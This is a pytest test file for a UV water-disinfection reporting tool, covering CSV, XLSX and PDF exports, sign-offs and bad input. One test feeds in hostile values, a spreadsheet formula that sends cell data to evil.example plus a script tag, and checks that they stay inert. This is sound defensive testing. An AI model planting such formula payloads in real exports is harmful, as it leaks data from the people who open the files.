"""The record in each format, read back by libraries that did not write it, against the store asked by SQL."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader

from ingest.evaluation.evaluate import evaluate
from ingest.queries import readings
from ingest.store import Store
from tests.conftest import Running, free_port, tarnlight_here
from tests.ingest.drawn_log import refused, run
from tests.ingest.ingest_streams import commit
from tests.recorded_month import GAP, NAME, NOTE, NOW, recorded_month, rows_of

OCTOBER = ("2026-10-01T00:00:00-04:00", "2026-11-01T00:00:00-04:00")  # Toronto, daylight time until 1 November
HERON = ("report", "--cabin", "heron-point", "--month", "2026-10")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("recorded") / "tarnlight.duckdb"
    recorded_month(path)
    return path


@pytest.fixture
def own(made: Path, tmp_path: Path) -> Path:
    """A copy that a test may change."""
    return Path(shutil.copy(made, tmp_path / "tarnlight.duckdb"))


def asked(path: Path, sql: str) -> pd.DataFrame:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql, {"since": OCTOBER[0], "until": OCTOBER[1]}).df()
    finally:
        con.close()


def written(path: Path, folder: Path, end: str, *words: str) -> Path:
    out = folder / f"record.{end}"
    run(path, *(words or HERON), "--out", str(out))
    assert out.stat().st_mode & 0o077 == 0  # it names people
    return out


def tables(out: Path) -> dict[str, pd.DataFrame]:
    """Every table of the record, each with its own columns."""
    if out.suffix == ".xlsx":
        return pd.read_excel(out, sheet_name=None, engine="openpyxl", keep_default_na=False, na_values=[""])
    whole = pd.read_csv(out, keep_default_na=False, na_values=[""])
    return {str(name): rows.dropna(axis=1, how="all") for name, rows in whole.groupby("table")}


@pytest.mark.parametrize("end", ["csv", "xlsx"])
def test_figures_are_the_stores_own(made: Path, tmp_path: Path, end: str) -> None:
    found = tables(written(made, tmp_path, end))
    [month] = found["months"].to_dict("records")
    [hours] = asked(made, """
        SELECT sum(volume_l) AS volume_l, sum(underdosed_l) AS underdosed_l, sum(in_spec_l) AS in_spec_l,
            sum(underdosed_l_upper) AS short_most, sum(lit_s) / 3600 AS lit_h, sum(dark_s) / 3600 AS dark_h,
            sum(unheard_s) / 3600 AS unheard_h FROM hourly
        WHERE cabin = 'heron-point' AND hour >= $since::TIMESTAMPTZ AND hour < $until::TIMESTAMPTZ
    """).to_dict("records")
    for name in ("volume_l", "underdosed_l", "lit_h", "dark_h", "unheard_h"):
        assert month[name] == pytest.approx(hours[name]), name
    assert month["in_specification_l"] == pytest.approx(hours["in_spec_l"])
    most_l = hours["in_spec_l"] + hours["short_most"]
    assert month["share_pct"] == pytest.approx(100 * hours["in_spec_l"] / most_l)
    assert hours["unheard_h"] > 5.9 and hours["dark_h"] > 0.6  # or nothing was tried
    days = found["days"]
    assert days["volume_l"].sum() == pytest.approx(hours["volume_l"])
    assert list(days["day"].astype(str)) == ["2026-10-28", "2026-10-29", "2026-10-30", "2026-10-31"]
    stretches = asked(made, """
        SELECT kind, sum(seconds) / 3600 AS h FROM segment WHERE cabin = 'heron-point' AND kind <> 'lit'
        AND start >= $since::TIMESTAMPTZ AND start < $until::TIMESTAMPTZ GROUP BY ALL
    """).set_index("kind")["h"]
    assert found["intervals"].groupby("kind")["hours"].sum().to_dict() == pytest.approx(stretches.to_dict())


@pytest.mark.parametrize("end", ["csv", "xlsx"])
def test_deeds_are_the_stores_own_and_what_was_withdrawn_says_so(made: Path, tmp_path: Path, end: str) -> None:
    found = tables(written(made, tmp_path, end))
    kept = asked(made, "SELECT id::VARCHAR AS id, kind FROM service_event WHERE cabin = 'heron-point' "
                 "AND $since IS NOT NULL AND $until IS NOT NULL")
    services = found["services"]
    assert services.set_index("id")["kind"].to_dict() == kept.set_index("id")["kind"].to_dict()
    [gone] = services[services["state"] == "withdrawn"].to_dict("records")
    assert (gone["kind"], gone["withdrawn_by"], gone["withdrawn_reason"]) == (
        "sleeve-cleaned", "Cai Holm", "the wrong cabin")
    [lamp] = found["lamps_sleeves"].query("kind == 'lamp-swapped'").to_dict("records")
    assert lamp["serial"] == "LX-4711"
    [sample] = found["samples"].to_dict("records")
    number = sample["lab_number"] if end == "xlsx" else sample["lab_number"].removeprefix("'")
    assert (number, sample["lab"], float(sample["e_coli_100ml"]), sample["outcome"]) == (
        "-77/b", "Invented Lakes Laboratory", 0.0, "satisfactory")
    [check] = found["sensor_checks"].to_dict("records")
    assert check["value"] == 1.0
    raised = asked(made, "SELECT advisory, count(*) AS n FROM advisory_event WHERE $since IS NOT NULL "
                   "AND $until IS NOT NULL GROUP BY ALL").set_index("advisory")["n"].to_dict()
    assert found["advisory_steps"].groupby("advisory").size().to_dict() == raised
    assert set(found["advisories"]["advisory"]) == set(raised) and raised
    texts = " ".join(found["about"]["text"])
    assert "local health authority decides" in texts and "Unknown is never clear" in texts


def test_what_was_not_known_is_said_as_plainly(made: Path, tmp_path: Path) -> None:
    found = tables(written(made, tmp_path, "csv"))["not_known"]
    unheard = found[found["what"].str.startswith("not heard")]
    [row] = unheard.to_dict("records")
    # the last minute before the gap is covered by nothing either
    assert pd.Timestamp(row["since"]) == pd.Timestamp(GAP[0]) - pd.Timedelta(minutes=1)
    assert pd.Timestamp(row["until"]) == pd.Timestamp(GAP[1]) and row["litres_most"] > 480
    [before] = found[found["what"].str.startswith("before the unit")].to_dict("records")
    assert before["hours"] == pytest.approx(27 * 24 + 8)  # from 1 October, 00:00, to 28 October, 08:00
    fleet = tables(written(made, tmp_path, "csv", "report", "--fleet", "--month", "2026-10"))
    never = fleet["not_known"].query("cabin == 'otter-cove'")
    assert set(never["what"]) == {"never heard"} and set(never["unit"]) == {"main", "annex"}
    assert len(fleet["months"]) == 3


def test_a_percentile_is_never_above_a_reckoning_reading_by_reading(made: Path, tmp_path: Path) -> None:
    [month] = tables(written(made, tmp_path, "csv"))["months"].to_dict("records")
    store = Store(Path(shutil.copy(made, tmp_path / "copy.duckdb")))
    flow = readings(store, "heron-point", "main", pd.Timestamp(OCTOBER[0]).to_pydatetime(),
                    pd.Timestamp(OCTOBER[1]).to_pydatetime(), points=10**6).query("flow_l_min > 0")
    store.close()
    assert len(flow) > 500
    lit = flow["dose_low_mj_cm2"].where(flow["lamp_on"].fillna(False), 0.0)
    for name, share in (("dose_low_p05_mj_cm2", 0.05), ("dose_low_p50_mj_cm2", 0.5)):
        assert 0 < month[name] <= lit.quantile(share) + 1e-9


def pdf_words(out: Path) -> str:
    """All words of a PDF, by another program than wrote it where there is one."""
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-layout", out, "-"], capture_output=True, text=True, check=True).stdout
    else:
        text = "\n".join(page.extract_text() for page in PdfReader(out).pages)
    return " ".join(text.split())


def test_the_pdf_holds_the_figures_its_pages_are_numbered_and_each_bears_the_caution(
    made: Path, tmp_path: Path
) -> None:
    [month] = tables(written(made, tmp_path, "csv"))["months"].to_dict("records")
    out = written(made, tmp_path, "pdf")
    text = pdf_words(out)
    for words in (
        f"{month['volume_l']:,.1f} known, {month['volume_l_upper']:,.1f} at most", "6.0 h not heard",
        f"{month['share_pct']:,.2f} to {month['share_most_pct']:,.2f} %",
        f"{month['dose_low_p05_mj_cm2']:.1f} mJ/cm2", "656.0 h before the unit was first heard",
        "2026-10-30 01:59 EDT", "America/Toronto", "WITHDRAWN by Cai Holm",
        "LX-4711", "Invented Lakes Laboratory", "Your local health authority decides", "not signed off",
    ):
        assert words in text, words
    pages = PdfReader(out).pages
    for number, page in enumerate(pages, start=1):
        assert f"page {number} of {len(pages)}" in page.extract_text().replace("\xa0", " ")
        assert "Unknown is never clear" in page.extract_text()


def test_hostile_names_are_words_in_each_format(made: Path, tmp_path: Path) -> None:
    raw = written(made, tmp_path, "csv").read_text(encoding="utf-8")
    found = tables(tmp_path / "record.csv")
    assert found["months"]["cabin_name"].iloc[0] == f"'{NAME}" and raw.count("'=HYPERLINK") == 1
    assert f"'{NOTE}" in set(found["services"]["note"].dropna())
    assert "'@Ann Lund" in set(found["services"]["who"])
    book = openpyxl.load_workbook(written(made, tmp_path, "xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}  # "f" would be a formula
    values = {cell.value for cell in cells}
    assert {NAME, NOTE, "@Ann Lund", "-77/b"} <= values
    assert all(cell.quotePrefix for cell in cells if cell.value in (NAME, NOTE, "@Ann Lund"))
    text = pdf_words(written(made, tmp_path, "pdf"))
    assert '=HYPERLINK("http://evil.example/?"&A1,"press") <b>bold</b> & ???' in text
    assert "<script>x</script>" in text and "\u202e" not in text


def test_a_month_is_signed_and_a_later_backlog_says_what_has_changed_since(own: Path, tmp_path: Path) -> None:
    assert "Ann Lund signed off" in run(own, *HERON, "--sign-off", "Ann Lund")
    assert "unchanged since" in run(own, *HERON)
    assert "signed these figures already" in run(own, *HERON, "--sign-off", "Ann Lund")
    store = Store(own)
    commit(store, rows_of(*GAP), NOW + timedelta(hours=1))  # the gap's own rows come late
    evaluate(store.con, NOW + timedelta(hours=1))
    store.close()
    text = run(own, *HERON)
    [line] = [one for one in text.splitlines() if one.startswith("signed off by Ann Lund on 2026-11-25")]
    assert "changed since: main: " in line and "hours unheard 6.017 -> 0" in line
    [told] = json.loads(run(own, *HERON, "--json"))
    [signed] = told["signed"]
    assert signed["by"] == "Ann Lund" and signed["whole"]
    assert {"unit": "main", "figure": "unheard_h", "then": 6.017, "now": 0.0} in signed["changed"]
    assert "changed since" in pdf_words(written(own, tmp_path, "pdf"))
    run(own, *HERON, "--sign-off", "Bo Dahl")
    both = [one for one in run(own, *HERON).splitlines() if one.startswith("signed off by")]
    assert len(both) == 2 and both[1].startswith("signed off by Bo Dahl") and "unchanged since" in both[1]
    rows = asked(own, "SELECT who, sha_hex FROM month_signed WHERE $since IS NOT NULL AND $until IS NOT NULL")
    assert len(rows) == 2 and rows["sha_hex"].nunique() == 2  # append-only


def test_kept_figures_that_were_changed_by_hand_are_found(own: Path) -> None:
    run(own, *HERON, "--sign-off", "Ann Lund")
    con = duckdb.connect(str(own))
    con.execute("UPDATE month_signed SET figures = replace(figures, '\"dark_h\":', '\"dark_h\":1')")
    con.close()
    assert "NOT THOSE THAT WERE SIGNED" in run(own, *HERON)


@pytest.mark.parametrize(("words", "why"), [
    (("--cabin", "heron-point", "--month", "2026-11", "--sign-off", "Ann"), "is not over"),
    (("--cabin", "heron-point", "--month", "2026-10", "--sign-off", " "), "must name the person"),
    (("--cabin", "heron-point", "--year", "2026"), "--out"),
    (("--fleet", "--month", "2026-10"), "--out"),
    (("--cabin", "heron-point", "--from", "2026-10-05", "--out", "x.csv"), "--to"),
    (("--cabin", "heron-point", "--from", "2026-10-05", "--to", "2026-10-01", "--out", "x.csv"), "not lie before"),
    (("--cabin", "heron-point", "--month", "2026-10", "--out", "x.doc"), "must end in .csv, .xlsx, .pdf"),
    (("--cabin", "no-such", "--month", "2026-10", "--out", "x.csv"), "enrolled are: heron-point"),
])
def test_bad_input_says_what_is_allowed_and_leaves_nothing(made: Path, words: tuple[str, ...], why: str) -> None:
    assert why in refused(made, "report", *words)
    assert not list(made.parent.glob("*x.*"))


def test_a_year_and_a_part_of_a_month(made: Path, tmp_path: Path) -> None:
    year = tables(written(made, tmp_path, "xlsx", "report", "--cabin", "heron-point", "--year", "2026"))
    assert list(year["months"]["month"]) == [f"2026-{number:02}" for number in range(1, 12)]  # none ahead of now
    month = year["months"].set_index("month")
    assert month.loc["2026-11", "lit_h"] > 50 and month.loc["2026-03", "lit_h"] == 0
    assert "never heard" not in set(year["not_known"]["what"])
    part = tables(written(
        made, tmp_path, "csv", "report", "--cabin", "heron-point", "--from", "2026-10-29", "--to", "2026-11-01"))
    assert set(part["days"]["day"]) == {"2026-10-29", "2026-10-30", "2026-10-31", "2026-11-01"}
    assert len(PdfReader(written(made, tmp_path, "pdf", "report", "--fleet", "--year", "2026")).pages) > 11
    assert tarnlight_here(made, "report", "--help").returncode == 0


def test_through_a_collector_it_is_the_same_and_the_collector_works_out_what_is_signed(
    enrolled: Path, make_collector: Callable[..., Running], tmp_path: Path
) -> None:
    words = ("report", "--cabin", "otter-cove", "--month", "2026-01")
    make_collector(f"mqtt://127.0.0.1:{free_port()}", connected=False)  # no broker there
    assert "Ann Lund signed off" in run(enrolled, *words, "--sign-off", "Ann Lund")
    found = tables(written(enrolled, tmp_path, "csv", *words))
    assert set(found["not_known"]["what"]) == {"never heard"}
    assert set(found["months"]["unit"]) == {"main", "annex"}
    assert list(found["signed"]["signed_by"]) == ["Ann Lund"]
    assert found["signed"]["words"].iloc[0].endswith("unchanged since")
